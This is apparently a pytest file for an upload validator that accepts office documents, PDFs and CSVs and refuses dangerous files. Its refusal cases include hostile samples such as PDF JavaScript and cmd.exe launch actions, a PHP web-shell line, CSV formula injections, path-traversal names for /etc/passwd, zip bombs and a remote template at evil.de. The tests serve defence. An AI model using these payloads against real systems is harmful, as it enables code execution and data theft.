"""Which documents are taken: told by their bytes, whole, of one kind, and without anything that runs or bursts."""

import pytest

from beteiligung.attachment import documents
from beteiligung.attachment.archives import MOST_MEMBERS
from beteiligung.errors import NotTaken

from . import files

LIMIT = 5_000_000


def taken(data):
    return documents.checked(data, limit=LIMIT)[0].media_type


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (files.pdf(), "application/pdf"),
        (files.pdf() + b"\r\n\x00\x00", "application/pdf"),
        (files.pdf(further=files.object_stream(b"1 0 << /Type /Annot >>")), "application/pdf"),
        (files.odt(), "application/vnd.oasis.opendocument.text"),
        (files.odt(kind="spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
        (files.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (files.docx(kind="spreadsheetml.sheet"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (files.TABLE, "text/csv"),
        ("Straße;Zahl\nAm Bäumchen;-1.200,50\n".encode("cp1252"), "text/csv"),
        (b"Amt,Telefon\nBauen,+49 234 910-0\n", "text/csv"),
    ],
)
def test_what_offices_write_is_taken(data, media_type):
    assert taken(data) == media_type


def test_a_table_becomes_readable_for_everybody():
    [table] = documents.checked("Ort;Bäume\nPark;3\n".encode("cp1252"), limit=LIMIT)

    assert table.data == "\ufeffOrt;Bäume\nPark;3\n".encode()


PIECES = {
    "a program as an action": files.pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "its name written otherwise": files.pdf("/OpenAction << /S /J#61vaScript >>"),
    "a program started": files.pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "another file inside": files.pdf(
        further=b"5 0 obj\n<< /Type /Filespec /EF << /F 6 0 R >> /EmbeddedFile 1 >>\nendobj\n"
    ),
    "a program in a packed stream": files.pdf(further=files.object_stream(b"7 0 << /S /JavaScript /JS (x) >>")),
    "a form that is a program": files.pdf("/AcroForm << /XFA 5 0 R >>"),
    "locked": files.pdf(further=b"trailer << /Encrypt 8 0 R >>\n"),
    "cut off": files.pdf()[:-30],
    "only the first line": b"%PDF-1.7\n",
    "something in front": b"GIF89a" + files.pdf(),
    "a page in front": b"<html><script>alert(1)</script>" + files.pdf(),
    "a page in its first comment": files.pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>alert(1)</script>"),
    "a page behind": files.pdf() + files.PROGRAM,
    "an archive behind": files.pdf() + files.odt(),
    "an archive whose comment is a PDF": files.pdf(further=files.odt()),
    "a stream that never ends": files.pdf(further=b"9 0 obj << >> stream\nxxxx"),
    "a stream that bursts": files.pdf(further=files.object_stream(b"\x00" * 60_000_000)),
    "macros of one office": files.docx(("word/vbaProject.bin", b"x")),
    "macros by type": files.docx(types="<Default ContentType='application/vnd.ms-word.document.macroEnabled.12'/>"),
    "macros of the other": files.odt(("Basic/Standard/Module1.xml", "<x/>")),
    "scripts": files.odt(("Scripts/python/x.py", b"x")),
    "a control": files.docx(("word/activeX/activeX1.bin", b"x")),
    "an object": files.docx(("word/embeddings/oleObject1.bin", b"x")),
    "a template from elsewhere": files.docx(
        (
            "word/_rels/settings.xml.rels",
            '<Relationship Target="https://evil.de/x.dotm" TargetMode="External" Type="http://x/attachedTemplate"/>',
        )
    ),
    "a name that climbs out": files.odt(("../../etc/passwd", b"x")),
    "an absolute name": files.odt(("/etc/passwd", b"x")),
    "a bomb": files.zip_bomb(60),
    "an archive of something": files.archive([("readme.txt", b"x")]),
    "an app": files.archive([("AndroidManifest.xml", b"x")]),
    "a presentation": files.odt(kind="presentation"),
    "a page in front of an archive": files.PROGRAM + files.odt(),
    "a page behind an archive": files.odt() + files.PROGRAM,
    "half an archive": files.odt()[:-40],
    "not even an archive": b"PK\x03\x04" + b"x" * 100,
    "too many members": files.odt(*((f"a/{n}", b"") for n in range(MOST_MEMBERS))),
    "a formula": b"Name;Wert\n=cmd|' /C calc'!A0;1\n",
    "a formula with a sign": b"Name;Wert\n+cmd|x;1\n",
    "a formula in quotes": b'Name;Wert\n"@SUM(1)";1\n',
    "a tab first": b'Name;Wert\n"\t=1+1";1\n',
    "a text": b"Nur ein Satz.",
    "rows of different length": b"a;b\nc;d;e\n",
    "noise": bytes(range(256)) * 9,
    "an SVG": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "PHP": b"<?php system($_GET[0]);",
    "an XML page": b"<?xml version='1.0'?><html/>",
    "a shell script": b"#!/bin/sh\n",
    "a Java class": b"\xca\xfe\xba\xbe",
    "an iPhone's photo": b"\x00\x00\x00\x18ftypheic" + b"x" * 99,
    "RTF": b"{\\rtf1 x}",
}


@pytest.mark.parametrize("name", PIECES)
def test_what_is_anything_else_is_refused_with_a_reason(name):
    with pytest.raises(NotTaken) as refused:
        taken(PIECES[name])

    assert str(refused.value).endswith(".")


def test_a_check_sum_that_does_not_fit_is_noticed():
    data = bytearray(files.odt(("Pictures/1.txt", b"A" * 10)))
    at = data.rfind(b"mimetypeapplication/vnd") + len("mimetype") + 40
    data[at] ^= 1

    with pytest.raises(NotTaken):
        taken(bytes(data))


def test_reading_takes_no_more_than_its_measure():
    """A stream of gigabytes is given up after the measure, not after the gigabytes."""
    import tracemalloc

    bomb = files.zip_bomb(200)
    tracemalloc.start()
    with pytest.raises(NotTaken):
        taken(bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert peak < 5_000_000
